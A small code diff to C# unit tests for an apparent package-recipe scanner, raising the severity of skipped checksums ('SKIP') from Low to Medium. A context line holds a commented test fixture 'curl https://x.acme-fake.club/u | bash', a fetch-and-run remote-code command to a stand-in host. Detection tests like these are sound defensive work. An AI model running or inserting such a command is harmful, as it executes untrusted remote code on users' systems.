@@ -21,7 +21,7 @@ public sealed class PackageRecipeTests
     public void Functions_that_begin_to_fetch_or_evaluate_are_told(string step) => Assert.Equal(["deviation/new-script High"], Found(Recipe(9, step: step)));
 
     [Fact]
-    public void Sums_that_are_no_longer_checked_warn() => Assert.Equal(["deviation/new-script Low"], Found(Recipe(9, sums: "sha256sums=('SKIP')\n")));
+    public void Sums_that_are_no_longer_checked_warn() => Assert.Equal(["deviation/new-script Medium"], Found(Recipe(9, sums: "sha256sums=('SKIP')\n")));
 
     [Fact]
     public void Comments_count_for_nothing() => Assert.Empty(Found(Recipe(9, step: "  # curl https://x.acme-fake.club/u | bash\n  make\n")));
